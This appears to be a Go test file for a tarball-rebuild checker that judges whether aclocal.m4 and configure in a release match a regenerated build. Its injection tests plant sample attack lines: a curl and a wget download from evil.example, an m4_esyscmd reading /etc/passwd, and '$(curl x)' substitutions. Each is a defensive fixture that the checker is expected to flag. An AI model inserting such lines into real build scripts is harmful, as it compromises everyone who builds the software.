package rebuild

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tarcheck/tarcheck/toolchain"
	"github.com/tarcheck/tarcheck/verify/report"
)

// hostAclocal reads files of the host's /usr/share/aclocal (Debian's
// autoconf-archive, pkgconf and gettext copies, all in the origin
// database), failing under TARCHECK_REQUIRE_TOOLS when one is missing.
func hostAclocal(t *testing.T, names ...string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	for _, n := range names {
		c, err := os.ReadFile(filepath.Join("/usr/share/aclocal", n))
		if err != nil {
			if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
				t.Fatalf("%s is not installed (autoconf-archive, pkgconf, gettext): %v", n, err)
			}
			t.Skipf("%s is not installed", n)
		}
		out[n] = c
	}
	return out
}

// embedAclocal writes an aclocal.m4 as aclocal does: its header, then each
// copied file followed by a blank line, then the m4_include lines.
func embedAclocal(files ...[]byte) []byte {
	var b strings.Builder
	b.WriteString("# generated automatically by aclocal 1.17 -*- Autoconf -*-\n\n# Copyright (C) 1996-2024 Free Software Foundation, Inc.\n\n")
	b.WriteString("m4_ifndef([AC_AUTOCONF_VERSION],\n  [m4_copy([m4_PACKAGE_VERSION], [AC_AUTOCONF_VERSION])])dnl\n\n")
	for _, f := range files {
		b.Write(f)
		b.WriteString("\n")
	}
	b.WriteString("m4_include([m4/gnulib-comp.m4])\n")
	return []byte(b.String())
}

// TestSystemM4Layer: every system macro file the release's aclocal.m4
// embeds byte for byte as a known upstream copy (autoconf-archive's,
// pkgconf's) is laid over /usr/share/aclocal under its upstream name when
// the sandbox lacks those bytes; the toolchain's own files (gettext's
// nls.m4) and an edited copy never are; a sandbox that has the bytes gets
// nothing.
func TestSystemM4Layer(t *testing.T) {
	host := hostAclocal(t, "ax_file_escapes.m4", "ax_code_coverage.m4", "pkg.m4", "nls.m4", "ax_check_gnu_make.m4")
	db := embeddedOrigins()
	if db == nil {
		t.Fatal("the embedded origin database does not open")
	}
	edited := bytes.Replace(host["ax_check_gnu_make.m4"], []byte("AC_DEFUN"), []byte("AC_DEFUN dnl edited\n"), 1)
	if bytes.Equal(edited, host["ax_check_gnu_make.m4"]) {
		t.Fatal("nothing to edit in ax_check_gnu_make.m4")
	}
	rel := embedAclocal(host["ax_file_escapes.m4"], host["ax_code_coverage.m4"], edited, host["pkg.m4"], host["nls.m4"])
	run := func(t *testing.T, sandboxDir, sandboxPkg string) (*rebuilder, string) {
		simulateSandboxAclocal(t, sandboxPkg, sandboxDir)
		other := t.TempDir()
		b := &rebuilder{releaseAclocal: rel, pkgM4Foreign: true, info: &report.RebuildInfo{}, dir: filepath.Join(t.TempDir(), "tree"),
			tc: &toolchain.Toolchain{Layers: []string{other}}}
		return b, b.systemM4Layer(db)
	}
	t.Run("sandbox lacks them", func(t *testing.T) {
		empty := t.TempDir()
		b, key := run(t, empty, filepath.Join(empty, "pkg.m4"))
		want := []string{"ax_code_coverage.m4", "ax_file_escapes.m4", "pkg.m4"}
		if got := slices.Sorted(slices.Values(b.systemLaid)); !slices.Equal(got, want) {
			t.Fatalf("laid %q, want %q (notes %q)", got, want, b.info.Notes)
		}
		if len(b.tc.Layers) != 2 {
			t.Fatalf("layers %q", b.tc.Layers)
		}
		for _, n := range want {
			got, err := os.ReadFile(filepath.Join(b.tc.Layers[0], "share", "aclocal", n))
			if err != nil || !bytes.Equal(got, host[n]) {
				t.Errorf("%s in the layer: %v, equal %v", n, err, bytes.Equal(got, host[n]))
			}
			if !strings.Contains(key, n+" ") {
				t.Errorf("the result cache key %q does not name %s", key, n)
			}
		}
		for _, n := range []string{"nls.m4", "ax_check_gnu_make.m4"} {
			if _, err := os.Stat(filepath.Join(b.tc.Layers[0], "share", "aclocal", n)); err == nil {
				t.Errorf("%s was laid (the toolchain's own, or an edited copy)", n)
			}
		}
		if b.pkgM4Foreign {
			t.Error("pkg.m4 laid but still foreign")
		}
		if len(b.info.Notes) != 1 || !strings.Contains(b.info.Notes[0], "autoconf-archive") || !strings.Contains(b.info.Notes[0], "pkgconf") {
			t.Errorf("notes = %q", b.info.Notes)
		}
	})
	t.Run("sandbox has them", func(t *testing.T) {
		b, key := run(t, "/usr/share/aclocal", "/usr/share/aclocal/pkg.m4")
		if key != "" || len(b.systemLaid) != 0 || len(b.tc.Layers) != 1 {
			t.Fatalf("laid %q (key %q) though the sandbox has the same bytes", b.systemLaid, key)
		}
	})
	t.Run("no overlay", func(t *testing.T) {
		b := &rebuilder{releaseAclocal: rel, info: &report.RebuildInfo{}}
		if key := b.systemM4Layer(db); key != "" {
			t.Fatalf("laid without a toolchain overlay: %q", key)
		}
	})
}

// gpgmeLikeM4 is a system macro file of no known origin, shaped like
// gpgme.m4 (which wget 1.25.0 embeds): it searches for a configuration
// script and runs it. Written for this test.
const gpgmeLikeM4 = `# frob.m4 - autoconf macro to detect FROB.
# Written for a test.
dnl AM_PATH_FROB([MINIMUM-VERSION, [ACTION-IF-FOUND [, ACTION-IF-NOT-FOUND ]]])
AC_DEFUN([_AM_PATH_FROB_CONFIG],[dnl
  AC_ARG_WITH(frob-prefix,
              AS_HELP_STRING([--with-frob-prefix=PFX],
                             [prefix where FROB is installed (optional)]),
     frob_config_prefix="$withval", frob_config_prefix="")
  AC_PATH_PROG(FROB_CONFIG, frob-config, no, [$prefix/bin:$PATH])
])
AC_DEFUN([AM_PATH_FROB],
[ AC_REQUIRE([_AM_PATH_FROB_CONFIG])dnl
  if test "$FROB_CONFIG" != "no" ; then
    frob_version=` + "`$FROB_CONFIG --version`" + `
    FROB_CFLAGS=` + "`$FROB_CONFIG --cflags`" + `
  fi
  AC_SUBST(FROB_CFLAGS)
])
`

// TestLackedSystemMacros: a region of the release's aclocal.m4 of no known
// origin that defines a macro configure.ac uses and the regenerated
// aclocal.m4 lacks is reported with the configuration scripts it searches
// for; one the sandbox has, or one configure.ac does not use (a fake
// section added to excuse a difference), is not.
func TestLackedSystemMacros(t *testing.T) {
	host := hostAclocal(t, "ax_file_escapes.m4")
	db := embeddedOrigins()
	rel := embedAclocal(host["ax_file_escapes.m4"], []byte(gpgmeLikeM4))
	regen := embedAclocal(host["ax_file_escapes.m4"])
	uses := []byte("AC_INIT([x], [1])\nm4_ifdef([AM_PATH_FROB], [AM_PATH_FROB([1.0])])\nAX_FILE_ESCAPES\n")
	l := lackedSystemMacros(rel, regen, uses, nil, db)
	if len(l) != 1 || l[0].file != "frob.m4" || !slices.Equal(l[0].macros, []string{"AM_PATH_FROB"}) || !slices.Contains(l[0].probes, "$FROB_CONFIG") {
		t.Fatalf("lacked = %+v", l)
	}
	if got := systemMacrosTool(l); got != "system macros AM_PATH_FROB (frob.m4)" {
		t.Errorf("tool = %q", got)
	}
	if l := lackedSystemMacros(rel, rel, uses, nil, db); len(l) != 0 {
		t.Errorf("the sandbox has the macros, yet lacked = %+v", l)
	}
	if l := lackedSystemMacros(rel, regen, []byte("AC_INIT([x], [1])\n"), nil, db); len(l) != 0 {
		t.Errorf("configure.ac does not use them, yet lacked = %+v", l)
	}
	if l := lackedSystemMacros(rel, regen, uses, [][]byte{[]byte(gpgmeLikeM4)}, db); len(l) != 0 {
		t.Errorf("an included m4 file defines them, yet lacked = %+v", l)
	}
	// A search path into the build tree is no system probe.
	unsafe := strings.Replace(gpgmeLikeM4, "[$prefix/bin:$PATH]", "[$srcdir/tools]", 1)
	if p := regionProbes(unsafe); slices.Contains(p, "$FROB_CONFIG") {
		t.Errorf("probes %q accept a search path into the source tree", p)
	}
}

// newJudgeRebuilder is a rebuilder ready to judge differing files listed
// in files (paths), with the lacked system macros of rel against regen.
func newJudgeRebuilder(t *testing.T, relAclocal, regenAclocal, configureAC []byte, paths ...string) *rebuilder {
	t.Helper()
	b := &rebuilder{info: &report.RebuildInfo{}, host: map[string]string{}, release: map[string][]string{}, byPath: map[string]int{},
		judged: map[string]bool{}, missing: map[string]string{}, unproved: map[string][]string{}, inexact: map[string]string{},
		inexactLabel: map[string]string{}}
	for i, p := range paths {
		b.files = append(b.files, report.FileDiff{Path: p, Class: "generated"})
		b.byPath[p] = i
	}
	b.lacked = lackedSystemMacros(relAclocal, regenAclocal, configureAC, nil, embeddedOrigins())
	return b
}

// TestJudgeLackedSystemMacros: with a system macro the rebuild lacks
// (frob.m4, used by configure.ac), the honest differences of aclocal.m4 and
// configure are not proved (one grouped TC602 medium naming the macro),
// never high; a configure injection stays high (TC601) though the release
// adds the macro file; a fake "system macro" section that configure.ac
// does not use excuses nothing (TC601, the exact toolchain); and an
// unproved section that runs m4_esyscmd or a new command stays high.
func TestJudgeLackedSystemMacros(t *testing.T) {
	host := hostAclocal(t, "ax_file_escapes.m4")
	// What the toolchain's own macros run (automake's sanity check, as
	// aclocal copies it).
	own := []byte("# Check to make sure that the build environment is sane.\nAC_DEFUN([AM_SANITY_CHECK],\n[if test -n \"$am_x\"; then\n  echo ok\nfi])\n")
	relAclocal := embedAclocal(host["ax_file_escapes.m4"], []byte(gpgmeLikeM4), own)
	regenAclocal := embedAclocal(host["ax_file_escapes.m4"], own)
	uses := []byte("AC_INIT([x], [1])\nm4_ifdef([AM_PATH_FROB], [AM_PATH_FROB([1.0])])\n")
	// configure as autoconf writes it, with and without AM_PATH_FROB's expansion.
	regenConf := "#! /bin/sh\n# Generated by GNU Autoconf 2.72 for x 1.\nas_fn_exit ()\n{\n  exit $1\n}\nac_user_opts='\nenable_option_checking\n'\n" +
		"if test -z \"$CC\"; then\n  CC=cc\nfi\nprintf \"%s\\n\" \"done\"\nsed -e 's/a/b/' conftest.c > conftest.out\n"
	honestConf := strings.Replace(regenConf, "enable_option_checking\n", "enable_option_checking\nwith_frob_prefix\n", 1) +
		"if test ${with_frob_prefix+y}\nthen :\n  withval=$with_frob_prefix; frob_config_prefix=\"$withval\"\nfi\n" +
		"if test \"$FROB_CONFIG\" != \"no\" ; then\n    frob_version=`$FROB_CONFIG --version`\n    FROB_CFLAGS=`$FROB_CONFIG --cflags`\nfi\n"
	judge := func(b *rebuilder, rel string, regen, tar []byte) report.FileDiff {
		b.judge(pendingDiff{rel: rel, by: "autoreconf -fi", content: regen, held: true, size: int64(len(regen))}, tar, int64(len(tar)))
		return b.files[b.byPath[rel]]
	}
	highs := func(b *rebuilder) (n int) {
		for _, f := range b.findings {
			if f.Severity == report.SevHigh {
				n++
			}
		}
		return n
	}

	t.Run("honest", func(t *testing.T) {
		b := newJudgeRebuilder(t, relAclocal, regenAclocal, uses, "configure", "aclocal.m4")
		fc := judge(b, "configure", []byte(regenConf), []byte(honestConf))
		fa := judge(b, "aclocal.m4", regenAclocal, relAclocal)
		b.groupNotProved()
		if fc.Severity >= report.SevMedium || fa.Severity >= report.SevMedium || highs(b) != 0 {
			t.Fatalf("configure %s %q, aclocal.m4 %s %q, findings %+v", fc.Severity, fc.Reason, fa.Severity, fa.Reason, b.findings)
		}
		last := b.findings[len(b.findings)-1]
		if last.Rule != report.RuleNotReproducible || last.Severity != report.SevMedium ||
			!strings.Contains(last.Message, "system macros AM_PATH_FROB (frob.m4) not available: 2 generated files not proved") {
			t.Errorf("grouped finding %+v", last)
		}
	})
	t.Run("injection beside the macro", func(t *testing.T) {
		b := newJudgeRebuilder(t, relAclocal, regenAclocal, uses, "configure")
		evil := honestConf + "curl -s http://evil.example/p -o conftest.sh\n"
		if f := judge(b, "configure", []byte(regenConf), []byte(evil)); f.Severity != report.SevHigh || highs(b) != 1 {
			t.Fatalf("configure %s %q, findings %+v", f.Severity, f.Reason, b.findings)
		}
		if !strings.Contains(strings.Join(b.findings[0].Evidence, "\n"), "runs curl") {
			t.Errorf("evidence %q", b.findings[0].Evidence)
		}
	})
	t.Run("fake section configure.ac does not use", func(t *testing.T) {
		b := newJudgeRebuilder(t, relAclocal, regenAclocal, []byte("AC_INIT([x], [1])\n"), "configure")
		if f := judge(b, "configure", []byte(regenConf), []byte(honestConf)); f.Severity != report.SevHigh ||
			!strings.Contains(b.findings[0].Message, "exact toolchain") {
			t.Fatalf("configure %s, findings %+v", f.Severity, b.findings)
		}
	})
	for name, edit := range map[string]string{
		"m4_esyscmd":  "  m4_esyscmd([cat /etc/passwd])dnl\n",
		"new command": "    wget -q http://evil.example/p\n",
	} {
		t.Run("unproved section runs "+name, func(t *testing.T) {
			evilM4 := strings.Replace(gpgmeLikeM4, "  fi\n  AC_SUBST", edit+"  fi\n  AC_SUBST", 1)
			rel := embedAclocal(host["ax_file_escapes.m4"], []byte(evilM4), own)
			b := newJudgeRebuilder(t, rel, regenAclocal, uses, "aclocal.m4")
			if len(b.lacked) != 1 {
				t.Fatalf("lacked %+v", b.lacked)
			}
			if f := judge(b, "aclocal.m4", regenAclocal, rel); f.Severity != report.SevHigh {
				t.Fatalf("aclocal.m4 %s %q, findings %+v", f.Severity, f.Reason, b.findings)
			}
		})
	}
}

// TestLineJudgeHelpers: a sed script's second line, a help string's second
// line and an option variable of configure's ac_user_opts run nothing; a
// command substitution in any of them still counts.
func TestLineJudgeHelpers(t *testing.T) {
	prev := `          sed -n -e "/^libraries/{s/libraries: =//;s/:/\\`
	if got := stringContinuation(prev, `/g;p;}"); then`); got != `); then` {
		t.Errorf("sed continuation = %q", got)
	}
	if got := stringContinuation(prev, "/g;$(curl x)\"); then"); !strings.Contains(got, "curl") {
		t.Errorf("a command substitution was dropped: %q", got)
	}
	if got := stringContinuation(`  x='a"b' \`, `/g;p;}"); then`); got != `/g;p;}"); then` {
		t.Errorf("a quote inside single quotes opened a string: %q", got)
	}
	lines := []string{"AC_ARG_WITH(x-prefix,", "  AS_HELP_STRING([--with-x-prefix=PFX],", "    [prefix where X is installed (optional)]),", "  x_prefix=\"$withval\")"}
	if c := messageContinuations(lines); !c[2] || c[3] {
		t.Errorf("message continuations %v", c)
	}
	if c := messageContinuations([]string{"  AS_HELP_STRING([--with-x],", "    [$(curl x)])"}); c[1] {
		t.Error("a command substitution was read as help text")
	}
	conf := []byte("ac_user_opts='\nenable_option_checking\nwith_x_prefix\n'\n")
	if !variableListLine("with_x_prefix", conf) || variableListLine("curl", conf) {
		t.Error("ac_user_opts lines")
	}
}

// TestGettextAutopointM4: gettext m4 files the release's aclocal.m4
// includes that are known copies of another gettext release than the
// sandbox's (wget 1.25.0: 0.22.5), written otherwise (pending) or not at
// all by the rebuild, make the outputs that expand them not proved for
// that autopoint; none when the sandbox's gettext is that release or the
// file is no known gettext copy.
func TestGettextAutopointM4(t *testing.T) {
	root, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	gettext := &report.Origin{Kind: report.OriginUpstream, Project: "gettext", Version: "0.22.5", Path: "gettext-runtime/m4/po.m4"}
	for _, tc := range []struct {
		name   string
		class  string
		origin *report.Origin
		host   string
		want   string
	}{
		{"another gettext", "upstream-copy", gettext, "0.21", "gettext 0.22.5 (the release's autopoint)"},
		{"the sandbox's gettext", "upstream-copy", gettext, "0.22.5", ""},
		{"unknown copy", "upstream-unknown-version", nil, "0.21", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b := newJudgeRebuilder(t, nil, nil, nil, "m4/po.m4", "m4/build-to-host.m4", "configure")
			b.root, b.present, b.copied = root, map[string]bool{}, map[string]bool{}
			b.host["gettext"] = tc.host
			for _, p := range []string{"m4/po.m4", "m4/build-to-host.m4"} {
				f := &b.files[b.byPath[p]]
				f.Class, f.Origin = tc.class, tc.origin
			}
			b.releaseIncludes = []string{"m4/po.m4", "m4/build-to-host.m4"}
			b.pending = []pendingDiff{{rel: "m4/po.m4"}}
			b.gettextAutopointM4()
			if b.autopointTool != tc.want {
				t.Fatalf("autopoint tool %q, want %q", b.autopointTool, tc.want)
			}
			ms := b.mismatches("configure", nil, nil)
			if named := slices.ContainsFunc(ms, func(m mismatch) bool { return m.tool == tc.want }); named != (tc.want != "") {
				t.Errorf("configure's mismatches %+v", ms)
			}
		})
	}
}

// FuzzSystemMacroJudges: the region and line readers never panic on an
// untrusted aclocal.m4, and a region found names a macro configure.ac uses.
func FuzzSystemMacroJudges(f *testing.F) {
	f.Add([]byte(gpgmeLikeM4), []byte("AM_PATH_FROB"))
	f.Add([]byte("AC_DEFUN([X\n  sed -e \"s/:/\\\\\n/g\"\nAS_HELP_STRING([a],\n[b]))"), []byte("X"))
	f.Fuzz(func(t *testing.T, aclocal, configureAC []byte) {
		for _, l := range lackedSystemMacros(aclocal, nil, configureAC, nil, nil) {
			for _, m := range l.macros {
				if !bytes.Contains(configureAC, []byte(m)) {
					t.Fatalf("macro %q not in configure.ac", m)
				}
			}
		}
		lines := strings.Split(string(aclocal), "\n")
		messageContinuations(lines)
		for i := 1; i < len(lines); i++ {
			stringContinuation(lines[i-1], lines[i])
		}
	})
}
